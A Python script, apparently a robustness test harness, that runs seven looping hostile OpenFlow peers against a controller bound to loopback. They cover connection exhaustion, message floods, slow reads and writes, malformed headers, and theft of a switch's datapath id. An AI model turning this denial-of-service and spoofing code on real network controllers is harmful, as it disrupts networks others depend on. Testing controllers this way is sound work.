#!/usr/bin/env python3
"""Hostile OpenFlow peers: HOST:PORT. Runs until it is ended."""
import itertools
import resource
import selectors
import socket
import struct
import sys
import threading
import time

HELLO, ECHO_REQUEST, ECHO_REPLY, FEATURES_REPLY = 0, 2, 3, 6
STATS_REQUEST, STATS_REPLY, BARRIER_REQUEST, BARRIER_REPLY = 16, 17, 18, 19
SILENT = 1000
VICTIM = 0x71C7


def message(kind, body=b"", xid=1):
    return struct.pack("!BBHI", 1, kind, 8 + len(body), xid) + body


def features(dpid):
    return message(FEATURES_REPLY, struct.pack("!QIB3xII", dpid, 0, 1, 0, 0xFFF))


def connect(target, source="127.0.0.1"):
    return socket.create_connection(target, timeout=10, source_address=(source, 0))


def again(attack):
    """Whoever is thrown out comes back."""
    def run(*arguments):
        while True:
            try:
                attack(*arguments)
            except (OSError, struct.error):
                pass
            time.sleep(0.2)
    return run


@again
def victim(target):
    """An honest switch, whose datapath id is stolen."""
    answers = {ECHO_REQUEST: (ECHO_REPLY, b""), STATS_REQUEST: (STATS_REPLY, b"\0\1\0\0"), BARRIER_REQUEST: (BARRIER_REPLY, b"")}
    with connect(target) as peer, peer.makefile("rb") as stream:
        peer.sendall(message(HELLO) + features(VICTIM))
        while True:
            _, kind, length, xid = struct.unpack("!BBHI", stream.read(8))
            stream.read(length - 8)
            if kind in answers:
                reply, body = answers[kind]
                peer.sendall(message(reply, body, xid))


@again
def silent(target):
    sockets = [connect(target) for _ in range(SILENT)]
    waiting = selectors.DefaultSelector()
    for each in sockets:
        waiting.register(each, selectors.EVENT_READ)
    # The controller's HELLO is read, and at last its end: then all begin anew.
    while all(key.fileobj.recv(4096) for key, _ in waiting.select()):
        pass
    for each in sockets:
        each.close()


@again
def garbage(target):
    with connect(target) as peer:
        peer.sendall(message(HELLO) + features(0xBAD))
        while True:
            peer.sendall(struct.pack("!BBHI", 1, 99, 8, 0) * 500)


@again
def thief(target):
    with connect(target, "127.0.0.66") as peer:
        peer.sendall(message(HELLO) + features(VICTIM))
        while peer.recv(4096):
            pass


@again
def slow_reader(target):
    with connect(target) as peer:
        peer.sendall(message(HELLO) + features(0x510))
        while True:
            peer.sendall(message(ECHO_REQUEST) * 4000)


@again
def slow_writer(target):
    with connect(target) as peer:
        for byte in itertools.cycle(message(HELLO)):
            peer.sendall(bytes([byte]))
            time.sleep(0.001)


@again
def impossible(target):
    for head in (b"\x01\x00\x00\x07", b"\x01\x00\xff\xff\x00\x00\x00\x01abc", b"\x16\x03\x01\x02\x00", b"GET / HTTP/1.1\r\n\r\n"):
        with connect(target) as peer:
            peer.sendall(head)
            time.sleep(0.05)


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    for attack in (victim, silent, garbage, thief, slow_reader, slow_writer, impossible):
        threading.Thread(target=attack, args=((host, int(port)),), daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
